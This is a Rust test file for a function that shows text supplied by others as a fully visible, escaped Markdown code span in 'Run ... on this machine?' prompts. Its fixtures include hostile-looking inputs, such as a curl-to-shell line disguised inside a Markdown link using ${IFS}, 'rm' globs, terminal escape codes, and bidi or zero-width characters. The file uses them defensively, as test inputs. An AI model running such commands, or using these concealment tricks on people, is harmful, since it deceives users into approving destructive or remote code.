//! Texts that are not the author's, in messages.

use elicit_core::{Elicit, quoted};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser};

#[test]
fn a_quoted_text_is_a_code_span_with_every_character_visible() {
    for (text, shown) in [
        ("", "` `"),
        ("curl https://x && reboot", "`curl https://x && reboot`"),
        ("rm __cache__", "`rm __cache__`"),
        ("**", "`**`"),
        (
            "ls [src](;curl${IFS}https://example.org/x|sh)",
            r"`ls \u{5b}src](;curl${IFS}https://example.org/x|sh)`",
        ),
        // The markup of Rich: a terminal that prints it shows `rm *` of the first.
        ("rm [a-z]* x[/tmp]", r"`rm \u{5b}a-z]* x\u{5b}/tmp]`"),
        ("[#f00]a[@click=b]", r"`\u{5b}#f00]a\u{5b}@click=b]`"),
        (r"\[b", r"`\\\u{5b}b`"),
        ("[ -f x ] [0-9] [A-Z] [[", "`[ -f x ] [0-9] [A-Z] [[`"),
        ("a &amp; b &lt;", "`a &amp; b &lt;`"),
        ("<img src=x>", "`<img src=x>`"),
        ("äöü 日本語 🙂", "`äöü 日本語 🙂`"),
        ("one\ntwo\r\n\tthree\0", r"`one\ntwo\r\n\tthree\u{0}`"),
        ("\u{1b}[2Jls", r"`\u{1b}[2Jls`"),
        (
            "a\u{200b}b\u{202e}c\u{200d}d",
            r"`a\u{200b}b\u{202e}c\u{200d}d`",
        ),
        ("a\u{a0}b\u{2028}", r"`a\u{a0}b\u{2028}`"),
        // A notification of VS Code shows `docs` of it, also between backticks.
        (
            "open [docs](https://example.org/x)",
            r"`open \u{5b}docs]\u{28}https://example.org/x)`",
        ),
        ("[OK](Command:quit)", r"`[OK]\u{28}Command:quit)`"),
        ("[A](file:///etc)", r"`[A]\u{28}file:///etc)`"),
        ("a[0](b) [A](httpd)", "`a[0](b) [A](httpd)`"),
        // What looks like the end, or like an escape, is neither.
        ("ls`, and nothing else", "``ls`, and nothing else``"),
        (r"C:\new\u{200b}", r"`C:\\new\\u{200b}`"),
        // Markdown removes the padding, and nothing else.
        ("say \"it's\" `so`", "`` say \"it's\" `so` ``"),
        ("`", "`` ` ``"),
        ("``a` b", "``` ``a` b ```"),
        (" a", "` a`"),
        ("a ", "`a `"),
        (" a ", "`  a  `"),
        ("` ", "`` `  ``"),
        ("  ", r"`\u{20}\u{20}`"),
    ] {
        assert_eq!(quoted(text).to_string(), shown);
        assert_eq!(format!("{:?}", quoted(text)), shown);
    }
}

/// A text without what Unicode has fonts ignore, and without what looks like a space.
#[derive(Elicit)]
struct Visible {
    /// Characters that show
    #[elicit(pattern = r"^[^\p{Default_Ignorable_Code_Point}\p{Cc}\p{Z}]*$")]
    text: String,
}

#[test]
fn a_quoted_text_shows_or_escapes_every_character() {
    let is_shown = |character: &char| {
        let shown = quoted(character.encode_utf8(&mut [0; 4])).to_string();
        shown == format!("`{character}`")
    };
    // A space alone is escaped, and a backtick is in longer fences.
    let all = ('\0'..=char::MAX).filter(|character| !matches!(character, ' ' | '`'));
    let text: String = all.filter(is_shown).collect();
    let content = serde_json::json!({"text": text});
    let visible = elicit_core::from_value::<Visible>(&content).unwrap();
    // Nearly all of them, and so the pattern was matched against something.
    assert!(visible.text.chars().count() > 1_000_000);
}

#[test]
fn a_quoted_text_is_cut_and_counts_the_missing_characters() {
    for (most, shown) in [
        (0, "` `… (5 more characters)"),
        (3, r"`ä\nb`… (2 more characters)"),
        (4, r"`ä\nb🙂`… (1 more character)"),
        (5, r"`ä\nb🙂c`"),
        (usize::MAX, r"`ä\nb🙂c`"),
    ] {
        assert_eq!(quoted("ä\nb🙂c").at_most(most).to_string(), shown);
    }
}

/// What a client shows of a message that renders it as Markdown: the text in its only code span.
/// Everything else is the author's.
fn rendered(message: &str, options: Options) -> String {
    let (mut code, mut rest) = (Vec::new(), String::new());
    for event in Parser::new_ext(message, options) {
        match event {
            Event::Code(text) => code.push(text.to_string()),
            Event::Text(text) => rest.push_str(&text),
            Event::Start(_) | Event::End(_) => {}
            other => panic!("{message:?}: {other:?}"),
        }
    }
    assert_eq!(rest, "Run  on this machine?", "{message:?}");
    let [code] = &code[..] else {
        panic!("{message:?}: {code:?}")
    };
    code.clone()
}

/// What a person reads who sees the fence: up to the next one that is as long.
fn read(message: &str) -> String {
    let span = message.strip_prefix("Run ").unwrap();
    let fence = &span[..span.len() - span.trim_start_matches('`').len()];
    let inner = span.strip_prefix(fence).unwrap();
    let end = inner.match_indices(fence).map(|(end, _)| end);
    let end = end.min().unwrap();
    assert_eq!(&inner[end + fence.len()..], " on this machine?");
    let inner = &inner[..end];
    let padded = inner
        .strip_prefix(' ')
        .and_then(|text| text.strip_suffix(' '));
    padded.unwrap_or(inner).to_owned()
}

/// The text that was escaped.
fn unescaped(line: &str) -> String {
    let mut text = String::new();
    let mut rest = line.chars();
    while let Some(character) = rest.next() {
        let character = match character {
            '\\' => match rest.next().unwrap() {
                'n' => '\n',
                'r' => '\r',
                't' => '\t',
                'u' => {
                    let code: String = rest.by_ref().take_while(|c| *c != '}').collect();
                    let code = u32::from_str_radix(code.trim_start_matches('{'), 16);
                    char::from_u32(code.unwrap()).unwrap()
                }
                other => other,
            },
            other => other,
        };
        text.push(character);
    }
    text
}

proptest! {
    #[test]
    fn no_character_is_lost_in_markdown_or_in_plain_text(
        text in r"([ -~]|[`\\“”\n\r\t\u{200b}\u{202e}\u{e0041}é🙂 ]|[`* _<&]|\PC|\pC){1,40}",
    ) {
        let message = format!("Run {} on this machine?", quoted(&text));
        for options in [Options::empty(), Options::all()] {
            prop_assert_eq!(unescaped(&rendered(&message, options)), &*text);
        }
        prop_assert_eq!(unescaped(&read(&message)), text);
    }
}

/// A fence that ends in its line does not begin a block of code.
#[test]
fn a_message_that_begins_with_a_quoted_text_shows_it() {
    for text in [
        "```", "~~~", "# a", "- a", "    a", "> a", "1. a", "|a|\n|-|", "---",
    ] {
        let message = quoted(text).to_string();
        let events: Vec<_> = Parser::new_ext(&message, Options::all()).collect();
        let code = events.iter().find_map(|event| match event {
            Event::Code(code) => Some(unescaped(code)),
            _ => None,
        });
        assert_eq!(code.as_deref(), Some(text), "{events:?}");
    }
}
